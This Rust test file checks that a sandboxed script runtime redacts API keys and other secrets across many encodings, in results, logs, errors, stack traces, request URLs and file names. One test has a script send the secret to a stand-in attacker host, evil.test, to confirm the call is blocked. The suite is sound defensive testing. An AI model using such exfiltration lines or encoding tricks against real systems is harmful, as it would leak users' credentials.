//! Secrets: whatever the code does with one, its value doesn't leave but to an allowed host.

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use portcullis_runtime::ErrorCode::{InvalidArguments, ProviderError};
use serde_json::{Value, json};

use crate::support::{Case, Ran};
use crate::upstream::server::Reply;

/// A secret with a character for each way of escaping.
const SECRET: &str = "p@ss \"w\\ö/rd+1&=?#%\n\u{1F600}";

/// The forms that a secret takes.
fn forms() -> Vec<String> {
    let json_escaped = Value::from(SECRET).to_string();
    let percent: String = SECRET.bytes().map(|byte| format!("%{byte:02X}")).collect();
    vec![
        SECRET.to_owned(),
        json_escaped[1..json_escaped.len() - 1].to_owned(),
        STANDARD.encode(SECRET),
        STANDARD.encode(SECRET).trim_end_matches('=').to_owned(),
        URL_SAFE_NO_PAD.encode(SECRET),
        percent,
        "p%40ss%20%22w%5C%C3%B6%2Frd%2B1%26%3D%3F%23%25%0A%F0%9F%98%80".to_owned(),
        "p%40ss+%22w%5C%C3%B6%2Frd%2B1%26%3D%3F%23%25%0A%F0%9F%98%80".to_owned(),
        // Within the credentials of basic authentication: the secret's own characters of base64.
        STANDARD.encode(format!("user:{SECRET}"))[8..40].to_owned(),
    ]
}

/// Nothing of the report is the secret in any form; text that hides it says so.
#[track_caller]
fn has_no_secret(ran: &Ran) {
    let report = ran.report();
    let mut unescaped = report.clone();
    for value in strings_of(&serde_json::from_str(&report).unwrap()) {
        unescaped.push('\n');
        unescaped.push_str(&value);
    }
    for form in forms() {
        assert!(!unescaped.contains(&form), "{form:?} is in {report}");
    }
    assert!(report.contains("[redacted]"), "{report}");
}

fn strings_of(value: &Value) -> Vec<String> {
    match value {
        Value::String(text) => vec![text.clone()],
        Value::Array(items) => items.iter().flat_map(strings_of).collect(),
        Value::Object(members) => {
            members.iter().flat_map(|(key, value)| [vec![key.clone()], strings_of(value)].concat()).collect()
        }
        _ => Vec::new(),
    }
}

/// Ways to write the secret `s` in the code.
const WAYS: &[&str] = &[
    "s",
    "`before ${s} after`",
    "JSON.stringify(s)",
    "JSON.stringify({ s })",
    "ctx.base64Encode(s)",
    "'Basic ' + ctx.base64Encode('user:' + s)",
    "'Basic ' + ctx.base64Encode(s + ':password')",
    "ctx.base64Encode('x' + s + 'y')",
    "ctx.base64Encode('xy' + s + 'yz')",
    "ctx.base64Encode(s).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')",
    "encodeURIComponent(s)",
    "encodeURI(s)",
    "escape('') + encodeURIComponent(s).replaceAll('%20', '+')",
    "encodeURIComponent(s).toLowerCase().replace('p%40ss', 'p%40ss')",
    "encodeURIComponent(ctx.base64Encode(s))",
];

#[track_caller]
fn runs(body: &str) -> Ran {
    let ran = Case::execute(&format!("const s = ctx.secrets.get('apiKey');\n{body}"))
        .secret("apiKey", SECRET)
        .serve(|request| Reply::ok(request.target()))
        .run();
    has_no_secret(&ran);
    ran
}

#[test]
fn results() {
    for way in WAYS {
        runs(&format!("return {{ value: [{way}], other: 'kept' }};"));
    }
    assert_eq!(runs("return `a ${s} b`").value(), &json!("a [redacted] b"));
}

#[test]
fn json_within_json() {
    runs("return JSON.stringify(JSON.stringify({ s }))");
    runs("return JSON.stringify({ body: JSON.stringify({ s }) })");
    runs("return ctx.base64Encode(JSON.stringify({ key: s }))");
}

#[test]
fn keys_of_results() {
    for way in WAYS {
        runs(&format!("return {{ [{way}]: 1, kept: [{{ ['x' + {way}]: 2 }}] }};"));
    }
    assert_eq!(runs("return { [s]: 1, kept: 2 }").value(), &json!({"[redacted]": 1, "kept": 2}));
}

#[test]
fn logs() {
    for way in WAYS {
        runs(&format!("console.log('x', {way}, {{ a: {way} }}, new Error({way})); return 1;"));
    }
    assert_eq!(runs("console.warn('key:', s); return 1").logged(), json!([["warn", "key: [redacted]"]]));
}

#[test]
fn errors_and_their_stacks() {
    for way in WAYS {
        runs(&format!("throw new Error('x' + {way} + 'y');"));
        runs(&format!("throw new Error('outer', {{ cause: new TypeError({way}) }});"));
        runs(&format!("throw {{ message: {way} }};"));
        runs(&format!("throw {{ code: {way} }};"));
        runs(&format!("throw {way};"));
        runs(&format!("throw Object.assign(new Error('x'), {{ stack: {way} }});"));
        runs(&format!("throw Object.assign(new Error('x'), {{ name: {way} }});"));
    }
    let ran = Case::execute("throw new Error('key ' + ctx.secrets.get('apiKey') + ' refused')")
        .secret("apiKey", "k-123456")
        .fails(ProviderError, "key [redacted] refused");
    assert!(ran.stack().starts_with("Error: key [redacted] refused\n"), "{}", ran.stack());
}

#[test]
fn names_of_functions_in_stacks() {
    runs("const holder = { [s]() { throw new Error('x') } }; holder[s]();");
}

#[test]
fn urls_of_requests() {
    let ran = runs(
        "ctx.http.get('http://api.test/' + encodeURIComponent(s) + '?key=' + encodeURIComponent(s)); return 1;",
    );
    assert_eq!(ran.http[0].url, "http://api.test/[redacted]?key=[redacted]");
    assert!(ran.request().target().contains("?key=p%40ss"), "it was sent");
    runs(
        "ctx.http.get('http://api.test/?key=' + s.replaceAll('#', '').replaceAll('\\n', '') + '&' + encodeURIComponent(s)); return 1;",
    );
    runs("try { ctx.http.get('http://api.test/\\n' + s) } catch (error) { return error.message }");
    runs(
        "try { ctx.http.get('https://evil.test/' + encodeURIComponent(s)) } catch (error) { return [error.message, s] }",
    );
    runs("ctx.http.get('http://api.test/', { headers: { ['X-A\\n' + s]: 'x' } });");
}

#[test]
fn what_the_upstream_echoes() {
    let ran = Case::execute(
        "const key = ctx.secrets.get('apiKey');\n\
         const { body } = ctx.http.post('http://api.test/', { body: JSON.stringify({ key }), headers: { Authorization: `Bearer ${ctx.base64Encode(key)}` } });\n\
         console.log(body); throw new Error('the service said: ' + body);",
    )
    .secret("apiKey", SECRET)
    .serve(|request| {
        Reply::ok(format!("{} {}", String::from_utf8_lossy(&request.body), request.header("authorization").unwrap()))
    })
    .run();
    has_no_secret(&ran);
    assert_eq!(ran.request().body, json!({ "key": SECRET }).to_string().into_bytes());
}

#[test]
fn redirects_that_echo() {
    let ran = Case::execute(
        "return ctx.http.get('http://api.test/?k=' + encodeURIComponent(ctx.secrets.get('apiKey'))).body",
    )
    .secret("apiKey", SECRET)
    .serve(|request| match request.target() {
        target if target.starts_with("/?k=") => Reply::redirect(302, &target.replace("/?", "/again?")),
        target => Reply::ok(target),
    })
    .run();
    has_no_secret(&ran);
    assert_eq!(ran.http[1].url, "http://api.test/again?k=[redacted]");
}

#[test]
fn names_of_files() {
    let ran = Case::execute(
        "const s = ctx.secrets.get('apiKey').replaceAll('/', '').replaceAll('\\n', '');\n\
         return ctx.files.store('x', { encoding: 'utf-8', contentType: 'text/' + s, fileName: `report ${s}.txt` });",
    )
    .secret("apiKey", "s3cret key+é")
    .storing_files()
    .run();
    let report = ran.report();
    assert_eq!(ran.value()["fileName"], json!("report [redacted].txt"));
    assert_eq!(ran.file_references[0].file_name, "report [redacted].txt");
    for form in ["s3cret", "key+"] {
        assert!(!report.contains(form), "{report}");
    }
}

#[test]
fn arguments_in_violations() {
    let ran = Case::execute("return 1")
        .schema(json!({"type": "object", "properties": {"n": {"type": "integer"}, "e": {"enum": ["a"]}}, "additionalProperties": false}))
        .arguments(json!({"n": "k3y-value-1", "e": "k3y-value-1", "k3y-value-1": 1}))
        .secret("apiKey", "k3y-value-1")
        .run();
    assert_eq!(ran.error().code, InvalidArguments);
    assert!(!ran.report().contains("k3y-value-1"), "{}", ran.report());
}

#[test]
fn the_name_of_an_unknown_operation() {
    let ran = Case::execute("return 1").operation("k3yvalue1").secret("apiKey", "k3yvalue1").run();
    assert!(!ran.report().contains("k3yvalue1"), "{}", ran.report());
}

#[test]
fn numbers_that_are_secrets() {
    let ran = Case::execute(
        "return { pin: Number(ctx.secrets.get('pin')), nested: [-12345678, 7], text: `is ${12345678}` }",
    )
    .secret("pin", "12345678")
    .run();
    assert_eq!(
        ran.value(),
        &json!({"pin": "[redacted]", "nested": ["[redacted]", 7], "text": "is [redacted]"})
    );
}

#[test]
fn the_message_of_a_failed_test() {
    let ran = Case::test_connection("return { success: false, message: 'no: ' + ctx.secrets.get('apiKey'), detail: { key: ctx.secrets.get('apiKey') } }")
        .secret("apiKey", "k-123456")
        .fails(ProviderError, "no: [redacted]");
    assert_eq!(ran.error().details.as_ref().unwrap()["detail"], json!({"key": "[redacted]"}));
}

#[test]
fn each_of_several_secrets_and_of_its_aliases() {
    let ran = Case::execute("return [ctx.secrets.get('apiKey'), ctx.secrets.get('accessToken'), ctx.secrets.get('password'), 'plain']")
        .secret("accessToken", "token-123")
        .secret("password", "token-123456")
        .run();
    assert_eq!(ran.value(), &json!(["[redacted]", "[redacted]", "[redacted]", "plain"]));
}

#[test]
fn configuration_is_no_secret_and_an_empty_secret_hides_nothing() {
    Case::execute("return [ctx.secrets.get('domain'), ctx.secrets.get('empty'), 'text']")
        .config(json!({"domain": "own.test"}))
        .secret("empty", "")
        .gives(json!(["own.test", "", "text"]));
}

#[test]
fn a_secret_that_is_sent_arrives_as_it_is() {
    let ran = Case::execute(
        "const s = ctx.secrets.get('apiKey');\n\
         ctx.http.post('http://api.test/?k=' + encodeURIComponent(s), { headers: { Authorization: 'Basic ' + ctx.base64Encode('user:' + s) }, body: s });\n\
         return 'done';",
    )
    .secret("apiKey", SECRET)
    .serve(|_| Reply::ok(""))
    .run();
    let request = ran.request();
    assert_eq!(request.body, SECRET.as_bytes());
    assert_eq!(
        request.header("authorization").unwrap(),
        format!("Basic {}", STANDARD.encode(format!("user:{SECRET}")))
    );
}

#[test]
fn a_credential_that_stands_in_the_config_is_one_all_the_same() {
    let body = "return [ctx.secrets.get('apiKey'), ctx.secrets.get('domain'), ctx.secrets.get('region')]";
    let hosts = json!({"secretBindings": ["apiKey", "domain"], "allowedHosts": ["{{domain}}"]});
    let config = json!({"apiKey": "key-in-the-config", "domain": "shop.example", "region": "eu-west"});
    let ran = Case::execute(body).manifest(hosts).config(config).run();
    assert_eq!(*ran.value(), json!(["[redacted]", "shop.example", "eu-west"]));
}
